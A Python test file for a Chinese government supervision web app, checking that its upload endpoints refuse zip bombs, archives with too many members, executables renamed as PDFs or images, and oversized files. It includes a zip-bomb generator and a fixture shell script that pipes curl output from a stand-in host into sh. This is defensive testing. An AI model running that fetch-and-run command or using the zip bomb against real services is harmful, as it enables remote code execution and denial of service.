"""Uploads are limited in size and type: zip bombs, renamed executables and oversized files are refused
with a Chinese message, before openpyxl opens them, and the store is left as it was."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

import duban.exchange.ledger
import duban.exchange.upload
from duban.exchange.archive import TEMPLATE_LIMITS, workbook_fault
from duban.exchange.ledger import LedgerError
from duban.exchange.ledger_import import import_ledger
from duban.persistence.models import PlanRow
from duban.settings import Settings
from duban.web.app import create_app
from security.conftest import PDF, World
from web.conftest import log_in

LIMIT = 256 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LEDGER = Path(__file__).parents[1] / "data" / "ledger" / "county-ledger.xlsx"


def zip_bomb(unpacked: int = 64 * 1024 * 1024) -> bytes:
    """A small .xlsx-shaped archive whose sheet unpacks to `unpacked` bytes of padding."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(unpacked // len(block)):
                sheet.write(block)
    return out.getvalue()


def many_members(count: int = 2100) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(count):
            archive.writestr(f"xl/m{n}.xml", "")
    return out.getvalue()


def empty_rows(count: int) -> bytes:
    """A workbook whose sheet holds `count` rows without a cell: nothing over any limit of rows or cells."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{MAIN}"><sheetData>' + '<row r="1"/>' * count
                         + "</sheetData></worksheet>")  # fmt: skip
    return out.getvalue()


def test_a_workbook_not_read_through_within_its_time_is_refused():
    rows = empty_rows(80_000)  # under the 1 MB below which any compression ratio is allowed
    # time enough to read it through on any machine (3 s was not at load 18): the time is the only refusal
    assert workbook_fault(rows, limits=dataclasses.replace(TEMPLATE_LIMITS, seconds=60)) is None
    no_time = dataclasses.replace(TEMPLATE_LIMITS, seconds=0)
    assert workbook_fault(rows, limits=no_time) == "工作簿内容过多，0 秒内未能读完，疑似恶意文件，已拒绝"


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"payload" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"This program cannot be run in DOS mode." * 10
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
OLD_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
EXECUTABLES = {"elf": ELF, "pe": PE, "script": SCRIPT}
FAKES = {**EXECUTABLES, "old-xls": OLD_XLS}

# (bytes, words the Chinese refusal must contain)
BAD_WORKBOOKS = [
    pytest.param(lambda: zip_bomb(), "疑似压缩炸弹", id="zip-bomb"),
    pytest.param(lambda: many_members(), "内部文件过多", id="many-members"),
    *(pytest.param(lambda fake=fake: fake, "不是 Excel 工作簿", id=name) for name, fake in FAKES.items()),
    pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 100, "不是 Excel 工作簿", id="broken-zip"),
]


def test_a_zip_bomb_is_small_on_disk_and_refused_by_its_declared_sizes():
    bomb = zip_bomb()
    assert len(bomb) < LIMIT
    assert "疑似压缩炸弹" in (workbook_fault(bomb) or "")


def test_a_real_template_and_ledger_pass_the_archive_check(world: World):
    assert workbook_fault(world.template) is None
    assert workbook_fault(LEDGER.read_bytes()) is None


@pytest.fixture
def small_limits(db_url, tmp_path, world) -> Settings:
    return Settings(database_url=db_url, data_dir=tmp_path / "data", secret_key="test-secret",
                    today="2026-06-10", upload_max_bytes=LIMIT, evidence_max_bytes=LIMIT)  # fmt: skip


@pytest.fixture
def reporter(small_limits, world) -> tuple[TestClient, str]:
    """镇雄县's own reporter, who has signed for the pending item: every refusal below is about the file."""
    client = TestClient(create_app(small_limits))
    token = log_in(client, "zhenxiong")
    signed = client.post(f"/supervision/items/{world.pending_item}/sign", data={"csrf_token": token})
    assert signed.status_code == 200 and 'class="error"' not in signed.text, signed.text[:300]
    return client, token


@pytest.fixture
def openpyxl_forbidden(monkeypatch):
    """openpyxl must not be reached for a refused file."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("openpyxl opened a file that should have been refused first")

    monkeypatch.setattr(duban.exchange.upload, "load_workbook", refuse)
    monkeypatch.setattr(duban.exchange.ledger, "load_workbook", refuse)


@pytest.mark.parametrize(("make", "words"), BAD_WORKBOOKS)
def test_template_upload_page_refuses_bad_workbooks(
    make, words, world, reporter, checksum, openpyxl_forbidden
):
    client, token = reporter
    before = checksum()
    response = client.post(f"/entry/{world.victim_unit}/6/upload", data={"csrf_token": token},
                           files={"file": ("六月.xlsx", make(), XLSX)})  # fmt: skip
    assert response.status_code == 422
    assert words in response.text
    assert checksum() == before


@pytest.mark.parametrize(("make", "words"), BAD_WORKBOOKS)
def test_template_upload_api_refuses_bad_workbooks(
    make, words, world, reporter, checksum, openpyxl_forbidden
):
    client, token = reporter
    before = checksum()
    response = client.post(f"/api/periods/{world.period_key}/units/{world.victim_unit}/upload",
                           headers={"X-CSRF-Token": token}, files={"file": ("六月.xlsx", make(), XLSX)})  # fmt: skip
    assert response.status_code == 422
    assert words in response.json()["detail"]["message"] + "".join(response.json()["detail"]["faults"])
    assert checksum() == before


@pytest.mark.parametrize("path", ["/entry/{unit}/6/upload", "/api/periods/2026-06/units/{unit}/upload"])
def test_template_upload_refuses_an_oversized_file(path, world, reporter, checksum):
    client, token = reporter
    before = checksum()
    big = world.template + b"\x00" * LIMIT
    response = client.post(path.format(unit=world.victim_unit), data={"csrf_token": token},
                           headers={"X-CSRF-Token": token}, files={"file": ("大.xlsx", big, XLSX)})  # fmt: skip
    assert response.status_code == 413
    assert "MB 上限" in response.text
    assert checksum() == before


@pytest.mark.parametrize(("make", "words"), BAD_WORKBOOKS)
def test_ledger_import_refuses_bad_workbooks(make, words, factory, world, checksum, openpyxl_forbidden):
    before = checksum()
    with factory() as session, pytest.raises(LedgerError) as refused:
        import_ledger(session=session, plan_row=session.scalars(select(PlanRow)).one(), data=make())
    assert words in str(refused.value)
    assert checksum() == before


def test_ledger_import_refuses_an_oversized_file(factory, world):
    huge = LEDGER.read_bytes() + b"\x00" * (21 * 1024 * 1024)
    with factory() as session, pytest.raises(LedgerError, match="超过上限"):
        import_ledger(session=session, plan_row=session.scalars(select(PlanRow)).one(), data=huge)


RENAMED = [
    (f"{kind}.{suffix}", content) for kind, content in EXECUTABLES.items() for suffix in ("pdf", "jpg", "png")
]


@pytest.mark.parametrize(("name", "content"), RENAMED, ids=[n for n, _ in RENAMED])
def test_evidence_upload_refuses_renamed_executables(name, content, world, reporter, checksum):
    client, token = reporter
    before = checksum()
    kind = "application/pdf" if name.endswith("pdf") else "image/jpeg"
    api = client.post(f"/api/entries/{world.entry}/evidence", headers={"X-CSRF-Token": token},
                      files={"file": (name, content, kind)})  # fmt: skip
    page = client.post(f"/entry/{world.victim_unit}/6/evidence", data={"csrf_token": token, "code": "L02-1"},
                       files={"file": (name, content, kind)})  # fmt: skip
    item = client.post(f"/supervision/items/{world.pending_item}/answer", data={"csrf_token": token, "text": "已处理"},
                       files={"evidence": (name, content, kind)})  # fmt: skip
    for response in (api, page, item):
        assert response.status_code in (400, 409, 415, 422), response.text[:300]
        assert "不是" in response.text and "文件类型" in response.text
    assert checksum() == before


def test_evidence_upload_refuses_an_oversized_file(world, reporter, checksum):
    client, token = reporter
    before = checksum()
    big = PDF + b"0" * LIMIT
    api = client.post(f"/api/entries/{world.entry}/evidence", headers={"X-CSRF-Token": token},
                      files={"file": ("大.pdf", big, "application/pdf")})  # fmt: skip
    page = client.post(f"/entry/{world.victim_unit}/6/evidence", data={"csrf_token": token, "code": "L02-1"},
                       files={"file": ("大.pdf", big, "application/pdf")})  # fmt: skip
    item = client.post(f"/supervision/items/{world.pending_item}/answer", data={"csrf_token": token, "text": "已处理"},
                       files={"evidence": ("大.pdf", big, "application/pdf")})  # fmt: skip
    for response in (api, page, item):
        assert response.status_code in (400, 409, 413, 422), response.text[:300]
        assert "超过" in response.text and "MB" in response.text
    assert checksum() == before


def test_plan_document_upload_refuses_an_oversized_file_instead_of_reading_part_of_it(small_limits):
    client = TestClient(create_app(small_limits))
    token = log_in(client, "admin")
    text = "昭通市2026年重点工作\n一、扩大有效投资\n1.新建农村公路1000公里。\n".encode()
    big = text + b"\n" * LIMIT
    response = client.post(
        "/plan/ingest", data={"csrf_token": token}, files={"file": ("计划.txt", big, "text/plain")}
    )
    assert response.status_code == 413
    assert "“计划.txt”超过 0.25 MB 上限" in response.text
    assert not (Path(small_limits.data_dir) / "ingest").exists()
    fits = client.post("/plan/ingest", data={"csrf_token": token}, files={"file": ("计划.txt", text, "text/plain")},
                       follow_redirects=False)  # fmt: skip
    assert fits.status_code == 303, fits.text[:300]
